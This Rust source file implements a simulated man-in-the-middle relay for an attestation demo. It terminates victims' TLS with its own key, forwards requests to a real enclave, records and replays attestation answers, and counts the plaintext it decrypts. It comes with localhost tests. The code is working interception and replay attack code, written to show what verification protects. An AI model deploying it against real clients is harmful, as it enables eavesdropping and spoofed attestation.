//! The hostile host of the demo: turns a victim's TLS connection into one that ends here, with the real enclave's evidence.
//! It proves what a man in the middle can read when the victim verifies: nothing but attestation requests.

use std::{
    io,
    net::SocketAddr,
    path::{Path, PathBuf},
    pin::Pin,
    sync::{
        Arc,
        atomic::{AtomicU64, Ordering},
    },
    task::{Context, Poll},
};

use bytes::Bytes;
use http_body_util::{BodyExt as _, Full, Limited};
use hyper::{
    Request, Response, StatusCode,
    body::Incoming,
    client::conn::http1::SendRequest,
    header::{CONNECTION, CONTENT_TYPE, HeaderMap, TRANSFER_ENCODING},
    service::service_fn,
};
use hyper_util::rt::TokioIo;
use serde_json::{Value, json};
use tokio::{
    io::{AsyncRead, AsyncWrite, ReadBuf},
    net::{TcpListener, TcpStream},
    sync::{Mutex, mpsc},
};

use crate::{SimulatorError, relay_tls};

/// The largest body that is handed on, and the largest recording.
const MAX_BODY: usize = 64 << 20;
const MAX_RECORDING: u64 = 1 << 20;
const ATTEST: &str = "/v1/attest";

/// What the relay does.
pub struct RelayOptions {
    /// Where victims connect.
    pub listen: SocketAddr,
    /// The real enclave; none when only a recording is played.
    pub upstream: Option<SocketAddr>,
    /// A recorded attestation answer to play.
    pub replay: Option<PathBuf>,
    /// Where to store the enclave's attestation answers.
    pub record: Option<PathBuf>,
}

/// What every victim's connection shares.
struct Plan {
    upstream: Option<SocketAddr>,
    replay: Option<Bytes>,
    record: Option<PathBuf>,
    tls: tokio_rustls::TlsConnector,
}

/// What one victim let the relay read.
#[derive(Default)]
struct Loot {
    decrypted: Arc<AtomicU64>,
    attest_bytes: AtomicU64,
    attest_requests: AtomicU64,
    other_requests: AtomicU64,
}

/// Serves victims until Ctrl-C; `print` gets one event per victim.
///
/// # Errors
/// `PORT_IN_USE`, `LISTEN_FAILED`, `RELAY_TLS`, `RELAY_RECORDING`.
pub fn run(options: RelayOptions, print: &mut (dyn FnMut(Value) + Send)) -> Result<(), SimulatorError> {
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .map_err(|e| SimulatorError::Listen(e.kind()))?;
    let outcome = runtime.block_on(accept(options, print));
    runtime.shutdown_background();
    outcome
}

async fn accept(options: RelayOptions, print: &mut (dyn FnMut(Value) + Send)) -> Result<(), SimulatorError> {
    let replay = options.replay.as_deref().map(read_recording).transpose()?;
    let acceptor = relay_tls::acceptor()?;
    let tls = relay_tls::connector()?;
    let listener = TcpListener::bind(options.listen).await.map_err(|e| match e.kind() {
        io::ErrorKind::AddrInUse => SimulatorError::PortInUse,
        kind => SimulatorError::Listen(kind),
    })?;
    let address = listener.local_addr().map_err(|e| SimulatorError::Listen(e.kind()))?;
    let plan = Arc::new(Plan { upstream: options.upstream, replay, record: options.record, tls });
    print(
        json!({ "simulation": "SIMULATED", "event": "listening", "address": address.to_string(), "pid": std::process::id() }),
    );

    let (events, mut finished) = mpsc::channel::<Value>(64);
    loop {
        tokio::select! {
            Ok((victim, _)) = listener.accept() => {
                let (plan, acceptor, events) = (Arc::clone(&plan), acceptor.clone(), events.clone());
                tokio::spawn(async move {
                    let loot = Arc::new(Loot::default());
                    if let Ok(stream) = acceptor.accept(victim).await {
                        serve_victim(stream, &plan, &loot).await;
                    }
                    let _ = events.send(loot.event()).await;
                });
            }
            Some(event) = finished.recv() => print(event),
            _ = tokio::signal::ctrl_c() => return Ok(()),
        }
    }
}

async fn serve_victim(
    stream: impl AsyncRead + AsyncWrite + Unpin + Send + 'static,
    plan: &Arc<Plan>,
    loot: &Arc<Loot>,
) {
    let counted = Counted { inner: stream, read: Arc::clone(&loot.decrypted) };
    let upstream = Arc::new(Mutex::new(None));
    let service = service_fn(|request: Request<Incoming>| {
        let (plan, loot, upstream) = (Arc::clone(plan), Arc::clone(loot), Arc::clone(&upstream));
        async move { Ok::<_, std::convert::Infallible>(answer(request, &plan, &loot, &upstream).await) }
    });
    let _ = hyper::server::conn::http1::Builder::new()
        .half_close(true)
        .serve_connection(TokioIo::new(counted), service)
        .await;
}

/// The connection to the real enclave that belongs to one victim.
type Upstream = Mutex<Option<SendRequest<Full<Bytes>>>>;

async fn answer(request: Request<Incoming>, plan: &Plan, loot: &Loot, upstream: &Upstream) -> Response<Full<Bytes>> {
    let is_attest = request.uri().path() == ATTEST;
    let head = head_len(&request);
    let (mut parts, body) = request.into_parts();
    let Ok(body) = Limited::new(body, MAX_BODY).collect().await.map(http_body_util::Collected::to_bytes) else {
        return plain(StatusCode::BAD_REQUEST, Bytes::new());
    };
    if is_attest {
        loot.attest_requests.fetch_add(1, Ordering::Relaxed);
        loot.attest_bytes.fetch_add(head + body.len() as u64, Ordering::Relaxed);
        if let Some(recording) = &plan.replay {
            return plain(StatusCode::OK, recording.clone());
        }
    } else {
        loot.other_requests.fetch_add(1, Ordering::Relaxed);
    }
    drop_hop_by_hop(&mut parts.headers);
    let Some(response) = forward(Request::from_parts(parts, Full::new(body)), plan, upstream).await else {
        return plain(StatusCode::BAD_GATEWAY, Bytes::new());
    };
    if let (true, StatusCode::OK, Some(path)) = (is_attest, response.status(), &plan.record) {
        let (path, body) = (path.clone(), response.body().clone());
        // Losing a recording does not stop an attack.
        if let Ok(Ok(bytes)) = body.collect().await.map(|b| Ok::<_, io::Error>(b.to_bytes())) {
            let _ = std::fs::write(path, bytes);
        }
    }
    response
}

async fn forward(request: Request<Full<Bytes>>, plan: &Plan, upstream: &Upstream) -> Option<Response<Full<Bytes>>> {
    let mut slot = upstream.lock().await;
    if slot.as_ref().is_none_or(SendRequest::is_closed) {
        *slot = Some(connect(plan).await?);
    }
    let sender = slot.as_mut()?;
    sender.ready().await.ok()?;
    let (mut parts, body) = sender.send_request(request).await.ok()?.into_parts();
    let body = Limited::new(body, MAX_BODY).collect().await.ok()?.to_bytes();
    drop_hop_by_hop(&mut parts.headers);
    Some(Response::from_parts(parts, Full::new(body)))
}

async fn connect(plan: &Plan) -> Option<SendRequest<Full<Bytes>>> {
    let address = plan.upstream?;
    let tcp = TcpStream::connect(address).await.ok()?;
    let stream = plan.tls.connect(address.ip().into(), tcp).await.ok()?;
    let (sender, connection) = hyper::client::conn::http1::handshake(TokioIo::new(stream)).await.ok()?;
    tokio::spawn(connection);
    Some(sender)
}

fn plain(status: StatusCode, body: Bytes) -> Response<Full<Bytes>> {
    let mut response = Response::new(Full::new(body));
    *response.status_mut() = status;
    response.headers_mut().insert(CONTENT_TYPE, hyper::header::HeaderValue::from_static("application/json"));
    response
}

fn drop_hop_by_hop(headers: &mut HeaderMap) {
    headers.remove(CONNECTION);
    headers.remove(TRANSFER_ENCODING);
}

/// How many bytes the request line and the headers took, as ordinary clients write them.
fn head_len(request: &Request<Incoming>) -> u64 {
    let target = request.uri().path_and_query().map_or(0, |p| p.as_str().len());
    let line = request.method().as_str().len() + 1 + target + " HTTP/1.1\r\n".len();
    let fields: usize = request.headers().iter().map(|(n, v)| n.as_str().len() + v.len() + ": \r\n".len()).sum();
    (line + fields + "\r\n".len()) as u64
}

fn read_recording(path: &Path) -> Result<Bytes, SimulatorError> {
    let unreadable = |e: io::Error| SimulatorError::Recording(e.kind());
    if std::fs::metadata(path).map_err(unreadable)?.len() > MAX_RECORDING {
        return Err(SimulatorError::Recording(io::ErrorKind::FileTooLarge));
    }
    std::fs::read(path).map(Bytes::from).map_err(unreadable)
}

impl Loot {
    fn event(&self) -> Value {
        let decrypted = self.decrypted.load(Ordering::Relaxed);
        json!({
            "simulation": "SIMULATED",
            "event": "victim_closed",
            "attest_requests": self.attest_requests.load(Ordering::Relaxed),
            "other_requests": self.other_requests.load(Ordering::Relaxed),
            "decrypted_bytes": decrypted,
            "application_bytes": decrypted.saturating_sub(self.attest_bytes.load(Ordering::Relaxed)),
            "pid": std::process::id(),
        })
    }
}

/// A stream that counts what was read from it: plaintext, when it is a TLS stream.
struct Counted<S> {
    inner: S,
    read: Arc<AtomicU64>,
}

impl<S: AsyncRead + Unpin> AsyncRead for Counted<S> {
    fn poll_read(mut self: Pin<&mut Self>, cx: &mut Context<'_>, buffer: &mut ReadBuf<'_>) -> Poll<io::Result<()>> {
        let before = buffer.filled().len();
        let outcome = Pin::new(&mut self.inner).poll_read(cx, buffer);
        self.read.fetch_add((buffer.filled().len() - before) as u64, Ordering::Relaxed);
        outcome
    }
}

impl<S: AsyncWrite + Unpin> AsyncWrite for Counted<S> {
    fn poll_write(mut self: Pin<&mut Self>, cx: &mut Context<'_>, bytes: &[u8]) -> Poll<io::Result<usize>> {
        Pin::new(&mut self.inner).poll_write(cx, bytes)
    }

    fn poll_flush(mut self: Pin<&mut Self>, cx: &mut Context<'_>) -> Poll<io::Result<()>> {
        Pin::new(&mut self.inner).poll_flush(cx)
    }

    fn poll_shutdown(mut self: Pin<&mut Self>, cx: &mut Context<'_>) -> Poll<io::Result<()>> {
        Pin::new(&mut self.inner).poll_shutdown(cx)
    }
}

#[cfg(test)]
mod tests {
    use tokio::{io::AsyncWriteExt, sync::mpsc::UnboundedReceiver, time::timeout};

    use super::*;

    /// A service that attests with the word `genuine` and says how long other bodies were.
    async fn enclave() -> SocketAddr {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let address = listener.local_addr().unwrap();
        let acceptor = relay_tls::acceptor().unwrap();
        tokio::spawn(async move {
            loop {
                let (stream, _) = listener.accept().await.unwrap();
                let stream = acceptor.accept(stream).await.unwrap();
                let service = service_fn(|request: Request<Incoming>| async move {
                    let is_attest = request.uri().path() == ATTEST;
                    let body = request.into_body().collect().await?.to_bytes();
                    let reply = if is_attest { "genuine".to_owned() } else { format!("{} bytes", body.len()) };
                    Ok::<_, hyper::Error>(Response::new(Full::new(Bytes::from(reply))))
                });
                let server = hyper::server::conn::http1::Builder::new();
                tokio::spawn(server.serve_connection(TokioIo::new(stream), service));
            }
        });
        address
    }

    async fn relay(upstream: Option<SocketAddr>, replay: Option<PathBuf>, record: Option<PathBuf>) -> Attack {
        let (send, mut events) = mpsc::unbounded_channel();
        let options = RelayOptions { listen: "127.0.0.1:0".parse().unwrap(), upstream, replay, record };
        tokio::spawn(async move { accept(options, &mut |event| send.send(event).unwrap()).await });
        let listening = events.recv().await.unwrap();
        assert_eq!(listening["simulation"], "SIMULATED");
        Attack { address: listening["address"].as_str().unwrap().parse().unwrap(), events }
    }

    struct Attack {
        address: SocketAddr,
        events: UnboundedReceiver<Value>,
    }

    impl Attack {
        async fn tls(&self) -> tokio_rustls::client::TlsStream<TcpStream> {
            let tcp = TcpStream::connect(self.address).await.unwrap();
            relay_tls::connector().unwrap().connect(self.address.ip().into(), tcp).await.unwrap()
        }

        /// One victim with one connection: the answers to its requests.
        async fn victim(&self, requests: &[(&str, &'static str)]) -> Vec<(StatusCode, String)> {
            let io = TokioIo::new(self.tls().await);
            let (mut sender, connection) = hyper::client::conn::http1::handshake(io).await.unwrap();
            let connection = tokio::spawn(connection);
            let mut answers = Vec::new();
            for (path, body) in requests {
                let request =
                    Request::post(*path).header("host", "enclave").body(Full::new(Bytes::from(*body))).unwrap();
                let response = sender.send_request(request).await.unwrap();
                let status = response.status();
                let body = response.into_body().collect().await.unwrap().to_bytes();
                answers.push((status, String::from_utf8(body.to_vec()).unwrap()));
            }
            drop(sender);
            let _ = connection.await;
            answers
        }

        async fn loot(&mut self) -> (u64, u64, u64) {
            let event = timeout(std::time::Duration::from_secs(10), self.events.recv()).await.unwrap().unwrap();
            let number = |name: &str| event[name].as_u64().unwrap();
            (number("attest_requests"), number("other_requests"), number("application_bytes"))
        }
    }

    fn answer(status: StatusCode, body: &str) -> (StatusCode, String) {
        (status, body.to_owned())
    }

    #[tokio::test]
    async fn only_what_is_not_attestation_counts() {
        let mut attack = relay(Some(enclave().await), None, None).await;
        let careful = attack.victim(&[(ATTEST, "nonce"), (ATTEST, "nonce")]).await;
        assert_eq!(careful, vec![answer(StatusCode::OK, "genuine"); 2]);
        assert_eq!(attack.loot().await, (2, 0, 0));

        let careless = attack.victim(&[(ATTEST, "nonce"), ("/v2/models/m/infer", "ten bytes!")]).await;
        assert_eq!(careless[1], answer(StatusCode::OK, "10 bytes"));
        let (_, others, bytes) = attack.loot().await;
        assert!(others == 1 && bytes > 10, "control: a victim that does not verify is read, {bytes}");

        let mut stream = attack.tls().await;
        stream.write_all(b"no HTTP at all").await.unwrap();
        stream.shutdown().await.unwrap();
        drop(stream);
        assert_eq!(attack.loot().await, (0, 0, 14));
    }

    #[tokio::test]
    async fn a_recording_is_played_to_the_next_victim() {
        let dir = tempfile::tempdir().unwrap();
        let file = dir.path().join("answer");
        let mut recorder = relay(Some(enclave().await), None, Some(file.clone())).await;
        recorder.victim(&[(ATTEST, "nonce")]).await;
        assert_eq!(recorder.loot().await, (1, 0, 0));
        assert_eq!(std::fs::read_to_string(&file).unwrap(), "genuine");

        let mut player = relay(None, Some(file), None).await;
        let answers = player.victim(&[(ATTEST, "another"), ("/v2", "")]).await;
        assert_eq!(answers, [answer(StatusCode::OK, "genuine"), answer(StatusCode::BAD_GATEWAY, "")]);
        assert_eq!(player.loot().await.1, 1);
    }

    #[tokio::test]
    async fn the_relay_shows_a_key_of_its_own() {
        let upstream = enclave().await;
        let attack = relay(Some(upstream), None, None).await;
        let of_relay = attack.tls().await.get_ref().1.peer_certificates().unwrap()[0].clone();
        let direct = Attack { address: upstream, events: mpsc::unbounded_channel().1 };
        assert_ne!(of_relay, direct.tls().await.get_ref().1.peer_certificates().unwrap()[0]);
    }

    #[tokio::test]
    async fn failures_have_codes() {
        let taken = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let options = |replay: Option<&str>| RelayOptions {
            listen: taken.local_addr().unwrap(),
            upstream: None,
            replay: replay.map(PathBuf::from),
            record: None,
        };
        assert_eq!(accept(options(None), &mut |_| ()).await, Err(SimulatorError::PortInUse));
        let missing = accept(options(Some("/nonexistent")), &mut |_| ()).await.unwrap_err();
        assert_eq!((missing.code(), missing.exit()), ("RELAY_RECORDING", 9));
    }
}
